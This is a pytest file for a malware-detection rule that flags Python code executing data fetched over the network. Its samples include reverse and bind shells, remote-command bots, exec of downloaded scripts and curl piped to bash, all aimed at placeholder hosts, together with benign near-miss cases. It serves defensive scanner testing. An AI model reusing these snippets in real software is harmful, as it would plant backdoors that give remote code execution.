"""Network data that is executed."""

from lazaretto.detect.rules.python.remote_code_executed import RULE


def test_exec_of_a_response(scan):
    text = r"""import urllib.request as u
exec(u.urlopen("https://files.example.test/a.py").read())
"""
    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import")]


def test_the_same_through_aliases_helpers_and_a_session(scan):
    text = r"""from requests import Session as S
run = getattr(__builtins__, "ex" + "ec")
def fetch(address):
    with S() as client:
        return client.get(address).text
def load():
    run(compile(fetch("https://files.example.test/a.py"), "a", "exec"))
"""
    assert scan(RULE, text) == [(7, "HIGH", "HIGH", "run")]


def test_a_shell_command_from_a_socket(scan):
    text = r"""import socket, os
s = socket.socket()
s.connect(("192.0.2.7", 4444))
while True:
    os.system(s.recv(1024).decode())
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "import")]


def test_in_the_program_of_a_child(scan):
    text = r"""import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import requests as r; exec(r.get('https://files.example.test/a').text)"])
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_in_a_program_that_is_written_first(scan):
    text = r"""import os
with open("/tmp/next.py", "w") as f:
    f.write("import urllib.request\nexec(urllib.request.urlopen('https://files.example.test/a').read())")
os.system("python3 /tmp/next.py &")
"""
    assert scan(RULE, text, "package/__init__.py") == [(4, "HIGH", "HIGH", "import")]


def test_python_2(scan):
    text = r"""import urllib2
print "installing"
exec urllib2.urlopen("http://files.example.test/a").read()
"""
    assert scan(RULE, text, "setup.py") == [(3, "HIGH", "HIGH", "install")]


def test_near_miss_a_value_inside_a_fixed_command(scan):
    text = r"""import requests, subprocess
version = requests.get("https://files.example.test/latest.json").json()["version"]
subprocess.run(["tool", "install", f"x=={version}"])
"""
    assert scan(RULE, text) == []


def test_near_miss_the_usual_version_file(scan):
    text = r"""import requests
about = {}
exec(compile(open("package/version.py").read(), "version.py", "exec"), about)
"""
    assert scan(RULE, text, "setup.py") == []


def test_near_miss_a_model_in_evaluation_mode(scan):
    text = r"""import requests
model = load(requests.get("https://files.example.test/weights").content)
model.eval()
"""
    assert scan(RULE, text) == []


def test_a_chat_bot_that_runs_what_it_is_told(scan):
    text = """
import discord, subprocess
client = discord.Client()
async def execute(command):
    return subprocess.Popen(command, shell=True).communicate()
@client.event
async def on_message(message):
    if message.content.startswith("!run "):
        await execute(message.content[5:])
"""
    assert scan(RULE, text) == [(5, "HIGH", "MEDIUM", "run")]
    assert scan(RULE, text.replace("message.content[5:]", '"ls"')) == []


def test_an_interpreter_that_is_fed(scan):
    text = """
import subprocess, requests, base64, sys
def run():
    text = requests.get("https://files.example.test/x").text
    process = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
    process.communicate(text.encode())
    subprocess.run("powershell -enc " + base64.b64encode(text.encode("utf-16le")).decode(), shell=True)
"""
    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "run"), (7, "HIGH", "HIGH", "run")]


def test_near_miss_a_program_that_gets_data(scan):
    text = """
import subprocess, requests
def run():
    text = requests.get("https://files.example.test/x").text
    subprocess.Popen(["sort", "-u"], stdin=subprocess.PIPE).communicate(text.encode())
"""
    assert scan(RULE, text) == []


def test_a_usual_helper_that_a_script_fetches_is_less_sure(scan):
    text = "from urllib.request import urlopen\nexec(urlopen('https://files.example.test/ez_setup.py').read())\n"
    assert scan(RULE, text, "thing-1.0/bootstrap.py") == [(2, "HIGH", "MEDIUM", "import")]
    assert scan(RULE, text, "thing-1.0/setup.py") == [(2, "HIGH", "HIGH", "install")]


def test_a_file_that_was_downloaded_before(scan):
    text = """
import requests
def go():
    open("cache.py", "w").write(requests.get("https://files.example.test/x").text)
    exec(open("cache.py").read())
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]


def test_a_fixed_powershell_command_over_a_file_named_by_the_network(scan):
    text = """
import subprocess, requests
def go():
    version = requests.get("https://files.example.test/latest").text
    command = f'Expand-Archive -Path "driver-{version}.zip" -DestinationPath "out" -Force'
    subprocess.run(["powershell", "-Command", command])
"""
    assert scan(RULE, text) == []


def test_a_program_from_a_commit_message(scan):
    text = r"""import base64, subprocess
from dulwich.porcelain import clone
repo = clone("https://code.example.test/a.git", "a")
message = repo[repo.head()].message.decode()
subprocess.Popen(["python", "-c", base64.b64decode(message).decode()])
"""
    assert scan(RULE, text, "setup.py") == [(5, "HIGH", "HIGH", "install")]


_BOT = r"""import subprocess, threading
import telebot
bot = telebot.TeleBot(TOKEN)
@bot.message_handler(func=lambda m: True)
def handler(m):
    out = subprocess.check_output(m.text, shell=True, text=True)
    bot.reply_to(m, out)
"""


def test_a_bot_that_listens_unasked(scan):
    text = _BOT + "threading.Thread(target=bot.infinity_polling, daemon=True).start()\n"
    assert scan(RULE, text, "package/__init__.py") == [(6, "HIGH", "HIGH", "run")]


def test_a_bot_whose_token_is_written_down(scan):
    assert scan(RULE, _BOT.replace("TOKEN", '"000000000:AA' + "x" * 33 + '"')) == [(6, "HIGH", "HIGH", "run")]


def test_a_bot_that_its_user_starts(scan):
    assert scan(RULE, _BOT) == [(6, "HIGH", "MEDIUM", "run")]


def test_the_words_behind_a_command(scan):
    text = r"""import os
from discord.ext import commands
bot = commands.Bot("!")
@bot.command()
async def shell(ctx, *, line):
    await ctx.send(os.popen(line).read())
bot.run(os.environ["TOKEN"])
"""
    assert scan(RULE, text) == [(6, "HIGH", "MEDIUM", "run")]


def test_near_miss_a_bot_that_runs_a_fixed_command(scan):
    text = _BOT.replace("m.text, shell=True", '["uptime"]')
    assert scan(RULE, text) == []


def test_a_helper_of_another_file_fetches(scan):
    text = r"""from . import transport
exec(transport.load("https://files.example.test/a.py").decode())
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_near_miss_a_helper_of_another_file_is_given_a_name(scan):
    text = r"""from . import templates
HOME = "https://docs.example.test/"
exec(templates.load("start").decode())
"""
    assert scan(RULE, text, "package/__init__.py") == []


def test_a_websocket_that_is_walked_over(scan):
    text = r"""import asyncio, subprocess, websockets
async def listen():
    async with websockets.connect("wss://c.example.test") as server:
        async for line in server:
            await server.send(subprocess.getoutput(line))
asyncio.run(listen())
"""
    assert scan(RULE, text, "package/__init__.py") == [(5, "HIGH", "HIGH", "import")]


def test_one_process_feeds_another(scan):
    text = r"""import subprocess
got = subprocess.Popen(["curl", "-s", "https://files.example.test/x"], stdout=subprocess.PIPE)
subprocess.Popen(["bash"], stdin=got.stdout)
"""
    assert scan(RULE, text, "package/__init__.py") == [(3, "HIGH", "HIGH", "import")]


def test_near_miss_a_child_is_told_where_to_connect(scan):
    text = r"""import socket, subprocess, sys
peer = socket.socket().recv(100)
subprocess.Popen([sys.executable, "-c", "import package; package.work('%s')" % peer])
"""
    assert scan(RULE, text) == []


def test_a_shell_that_listens(scan):
    text = """import socket, subprocess
def serve():
    s = socket.socket()
    s.bind(("0.0.0.0", 4444))
    s.listen(1)
    other, _ = s.accept()
    line = other.recv(1024).decode()
    other.send(subprocess.getoutput(line).encode())
"""
    assert scan(RULE, text) == [(8, "HIGH", "HIGH", "run")]


def test_streams_of_asyncio(scan):
    text = """import asyncio
async def main():
    reader, writer = await asyncio.open_connection("c.example.test", 4444)
    line = (await reader.readline()).decode()
    await asyncio.create_subprocess_shell(line)
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]
